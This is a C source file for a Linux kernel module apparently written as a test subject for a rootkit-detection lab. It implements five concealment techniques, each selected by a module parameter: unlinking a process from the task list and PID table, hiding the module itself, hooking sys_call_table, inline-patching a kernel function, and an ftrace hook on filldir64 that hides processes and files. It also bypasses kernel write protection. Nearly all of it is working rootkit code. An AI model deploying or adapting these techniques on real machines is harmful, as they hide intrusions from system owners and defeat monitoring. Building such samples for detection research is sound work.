// SPDX-License-Identifier: GPL-2.0
/*
 * nphrk: the nephoscope lab's kernel rootkit (a test subject, loaded only into lab guests).
 *
 * Five techniques, each switched on by a module parameter, so the methods can be judged on each:
 *  1. dkom_pid=N   unlink task N from the task list (init_task.tasks) and from the PID table
 *                  (init_pid_ns.idr, with pid_allocated kept consistent): /proc and list walks lose it.
 *  2. hide_self=1  remove this module from the module list (`modules`) and from sysfs (its kobject
 *                  leaves module_kset): /proc/modules, lsmod and /sys/module lose it; its code stays.
 *  3. hook_nr=N    point sys_call_table[N] at a function of this module. On kernels that dispatch
 *                  through x64_sys_call() (6.9+, and 6.1.85+ stable backports) the table is no longer
 *                  used, so the hook has no effect there; it is still a pointer out of kernel text.
 *  4. patch_fn=F   overwrite the first 5 bytes of kernel function F (default __x64_sys_acct, never
 *                  called in the lab) with a jmp into this module (inline patch).
 *  5. filldir_pid=N, hide_prefix=P
 *                  an ftrace hook (IPMODIFY) on filldir64 that drops directory entries named N (the
 *                  /proc/N directory: the process vanishes from ps) or starting with P (files).
 *
 * kallsyms_lookup_name is not exported on 5.7+: its address comes from a kprobe placed on it (the kprobe
 * resolves symbol names) and removed at once. Read-only kernel pages (sys_call_table in .rodata, text)
 * are written through a temporary writable alias made with vmap() over the same physical pages:
 * set_memory_rw() and text_poke() are not exported, and CR0.WP is pinned by the kernel.
 * There is no exit function: the module cannot be unloaded (it would leave dangling hooks).
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/ftrace.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/sched/signal.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/idr.h>
#include <linux/vmalloc.h>
#include <linux/mm.h>
#include <linux/kobject.h>
#include <linux/string.h>
#include <linux/fs.h>
#include <asm/page.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("nephoscope lab rootkit (test subject)");

static int dkom_pid;
module_param(dkom_pid, int, 0);
static int hide_self;
module_param(hide_self, int, 0);
static int hook_nr = -1;
module_param(hook_nr, int, 0);
static char *patch_fn = "";
module_param(patch_fn, charp, 0);
static int filldir_pid;
module_param(filldir_pid, int, 0);
static char *hide_prefix = "";
module_param(hide_prefix, charp, 0);

typedef unsigned long (*lookup_t)(const char *name);
static lookup_t lookup;
typedef long (*syscall_t)(const struct pt_regs *regs);
static syscall_t real_syscall;

static int find_lookup(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int ret = register_kprobe(&kp);

	if (ret)
		return ret;
	lookup = (lookup_t)kp.addr;
	unregister_kprobe(&kp);
	return lookup ? 0 : -ENOENT;
}

static struct page *page_of(unsigned long addr)
{
	/* the kernel image (text, rodata) is above __START_KERNEL_map, module memory above MODULES_VADDR */
	if (addr >= MODULES_VADDR)
		return vmalloc_to_page((void *)addr);
	if (addr >= __START_KERNEL_map)
		return pfn_to_page(__pa_symbol(addr) >> PAGE_SHIFT);
	return virt_to_page((void *)addr);
}

/* Write len bytes at a read-only kernel address through a writable vmap() alias of its pages. */
static int poke(unsigned long addr, const void *src, size_t len)
{
	struct page *pages[2];
	unsigned int n = ((addr & ~PAGE_MASK) + len > PAGE_SIZE) ? 2 : 1;
	unsigned int i;
	void *alias;

	for (i = 0; i < n; i++) {
		pages[i] = page_of((addr & PAGE_MASK) + i * PAGE_SIZE);
		if (!pages[i])
			return -EFAULT;
	}
	alias = vmap(pages, n, VM_MAP, PAGE_KERNEL);
	if (!alias)
		return -ENOMEM;
	memcpy((char *)alias + (addr & ~PAGE_MASK), src, len);
	vunmap(alias);
	return 0;
}

/* 1. DKOM */
static int do_dkom(void)
{
	struct task_struct *task;
	struct pid *pid = find_get_pid(dkom_pid);
	rwlock_t *tasklist;

	if (!pid)
		return -ESRCH;
	task = get_pid_task(pid, PIDTYPE_PID);
	if (!task) {
		put_pid(pid);
		return -ESRCH;
	}
	tasklist = (rwlock_t *)lookup("tasklist_lock"); /* not exported */
	if (!tasklist)
		return -ENOENT;
	write_lock_irq(tasklist);
	list_del_init(&task->tasks);
	write_unlock_irq(tasklist);
	if (idr_remove(&init_pid_ns.idr, dkom_pid) == pid)
		init_pid_ns.pid_allocated--; /* keep the namespace's count in step with its idr */
	/* the task and struct pid keep our references: they are never freed while hidden */
	pr_info("nphrk: task %d (%s) unlinked from the task list and the PID table\n", dkom_pid, task->comm);
	return 0;
}

/* 2. hide the module */
static void do_hide_self(void)
{
	list_del_init(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	pr_info("nphrk: removed from the module list and sysfs\n");
}

/* 3. system-call table hook */
static long nph_syscall(const struct pt_regs *regs)
{
	return real_syscall(regs);
}

static int do_hook(void)
{
	unsigned long table = lookup("sys_call_table");
	unsigned long hook = (unsigned long)nph_syscall;

	if (!table || hook_nr < 0 || hook_nr >= 512)
		return -ENOENT;
	real_syscall = ((syscall_t *)table)[hook_nr];
	pr_info("nphrk: sys_call_table[%d] at %px -> %px (was %px)\n", hook_nr,
		(void *)(table + 8 * hook_nr), nph_syscall, real_syscall);
	return poke(table + 8 * hook_nr, &hook, sizeof(hook));
}

/* 4. inline patch */
static long nph_patched(const struct pt_regs *regs)
{
	return -EPERM;
}

static int do_patch(void)
{
	unsigned long fn = lookup(patch_fn);
	unsigned char jmp[5] = { 0xe9 };
	long rel;

	if (!fn)
		return -ENOENT;
	rel = (long)nph_patched - (long)(fn + 5);
	if (rel != (s32)rel)
		return -ERANGE;
	*(s32 *)(jmp + 1) = (s32)rel;
	pr_info("nphrk: %s at %px now jumps to %px\n", patch_fn, (void *)fn, nph_patched);
	return poke(fn, jmp, sizeof(jmp));
}

/* 5. ftrace hook on filldir64 */
static filldir_t real_filldir64;
static char pid_name[16];

static bool nph_filldir64(struct dir_context *ctx, const char *name, int namlen, loff_t offset, u64 ino,
			  unsigned int d_type)
{
	size_t plen = strlen(hide_prefix);

	if (pid_name[0] && namlen == strlen(pid_name) && !memcmp(name, pid_name, namlen))
		return true;
	if (plen && namlen >= plen && !memcmp(name, hide_prefix, plen))
		return true;
	return real_filldir64(ctx, name, namlen, offset, ino, d_type);
}

static void notrace nph_thunk(unsigned long ip, unsigned long parent_ip, struct ftrace_ops *ops,
			      struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	if (regs && !within_module(parent_ip, THIS_MODULE))
		regs->ip = (unsigned long)nph_filldir64;
}

static struct ftrace_ops nph_ops = {
	.func = nph_thunk,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY,
};

static int do_filldir(void)
{
	unsigned long fn = lookup("filldir64");
	int ret;

	if (!fn)
		return -ENOENT;
	real_filldir64 = (filldir_t)fn;
	if (filldir_pid)
		snprintf(pid_name, sizeof(pid_name), "%d", filldir_pid);
	ret = ftrace_set_filter_ip(&nph_ops, fn, 0, 0);
	if (ret)
		return ret;
	ret = register_ftrace_function(&nph_ops);
	if (!ret)
		pr_info("nphrk: ftrace hook on filldir64 at %px hides '%s' and '%s*'\n", (void *)fn, pid_name,
			hide_prefix);
	return ret;
}

static void report(const char *what, int ret)
{
	if (ret)
		pr_warn("nphrk: %s failed (%d)\n", what, ret);
}

static int __init nphrk_init(void)
{
	int ret = find_lookup();

	if (ret) {
		pr_warn("nphrk: no kallsyms_lookup_name (%d)\n", ret);
		return ret;
	}
	if (hook_nr >= 0)
		report("syscall hook", do_hook());
	if (patch_fn[0])
		report("inline patch", do_patch());
	if (filldir_pid || hide_prefix[0])
		report("filldir hook", do_filldir());
	if (dkom_pid)
		report("dkom", do_dkom());
	if (hide_self)
		do_hide_self();
	return 0;
}
module_init(nphrk_init);
